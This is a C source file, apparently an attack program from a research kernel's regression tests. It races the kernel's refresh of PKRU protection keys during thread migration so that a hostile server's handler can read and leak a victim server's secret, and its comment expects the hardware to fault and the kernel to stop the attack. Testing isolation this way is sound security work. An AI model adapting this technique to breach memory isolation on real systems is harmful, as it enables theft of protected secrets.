/* pkru_refresh: get the kernel to hand a migrated thread its owner's PKRU (break A1).
 *
 * The attack: we are in-kernel server R (ATTACK_SERVICE). The victim S
 * (secret_server.c), an in-kernel server with a secret in its own memory and a service
 * of its own (VICTIM_SERVICE), connects to us and calls us through its gate with the
 * address of its secret in mr[1]. Our handler now runs on S's thread (thread
 * migration) with our PKRU: it notes the connection's shared buffer and spins on it.
 * Meanwhile our second thread connects to S's service. A connect gives both parties
 * a new shared key, and a kernel that rewrites the PKRU of every thread of S writes
 * S's PKRU into the thread that is executing our handler. The handler then reads S's
 * secret and copies it into the shared buffer (the only memory both PKRUs open: after
 * such a refresh our own stack and globals are closed to it), where our second thread
 * reads it and prints it as LEAKED.
 * Expected hardware response: the refresh leaves the live PKRU of a thread inside a
 * foreign domain alone, so the handler's read of S's secret takes #PF protection key
 * access-disabled (PKRU.AD), ring 0. The fault is ours: the kernel ends us (not S),
 * and S's call returns -EPIPE: S prints "victim: call = -32" and stays alive.
 * Checked by: tests/regress/test_pkru_refresh_in_a_foreign_handler.py (row pkru-refresh).
 */
#include "attack.h"
#include "ub_ipc.h"
#include "ub_sys.h"

#define GO 0x6f67          /* buf[0]: the second thread has connected to S */
#define COPIED 0x79706f63  /* buf[0]: the handler copied 16 bytes to buf[1..2] */

static volatile long in_handler;
static volatile unsigned long shared; /* the S -> R connection's buffer */
ATTACK_STACK(second_stack);

static void handler(struct ub_msg *msg)
{
    unsigned long secret = (unsigned long)msg->mr[1];
    unsigned long buf = (unsigned long)msg->buf;

    shared = buf;
    in_handler = 1;
    /* From here on: registers and the shared buffer only (no stack, no globals). */
    __asm__ volatile("1: cmpq %[go], (%[buf])\n\t"
                     "jne 1b\n\t"
                     "movq (%[secret]), %%rax\n\t"
                     "movq %%rax, 8(%[buf])\n\t"
                     "movq 8(%[secret]), %%rax\n\t"
                     "movq %%rax, 16(%[buf])\n\t"
                     "movq %[copied], (%[buf])\n\t"
                     "2: jmp 2b"
                     :
                     : [buf] "r"(buf), [secret] "r"(secret), [go] "i"(GO),
                       [copied] "i"(COPIED)
                     : "rax", "memory");
    __builtin_unreachable();
}

static void second(unsigned long unused)
{
    (void)unused;
    while (!in_handler)
        ub_yield();
    struct ub_conn conn;
    long r = ub_ipc_connect(VICTIM_SERVICE, &conn);
    ub_printf("connected to the victim's service while its thread runs my handler: %ld\n", r);
    if (r < 0)
        ub_exit(1);
    volatile unsigned long *buf = (volatile unsigned long *)shared;
    buf[0] = GO;
    while (buf[0] != COPIED)
        ub_yield();
    char secret[17];
    memcpy(secret, (const void *)&buf[1], 16);
    secret[16] = '\0';
    ub_printf("LEAKED: the victim's secret, read by my handler on its thread: \"%s\"\n", secret);
    ub_exit(1);
}

int main(void)
{
    long service = ub_ipc_register(ATTACK_SERVICE, handler);
    if (service < 0) {
        ub_printf("pkru_refresh: cannot register: %ld\n", service);
        return 1;
    }
    long thread = ub_thread_create(second, second_stack + ATTACK_STACK_SIZE, 0);
    if (thread < 0) {
        ub_printf("pkru_refresh: cannot create a thread: %ld\n", thread);
        return 1;
    }
    ub_notif_wait(ub_notif_create()); /* the handler and the second thread do the rest */
    return 1;
}
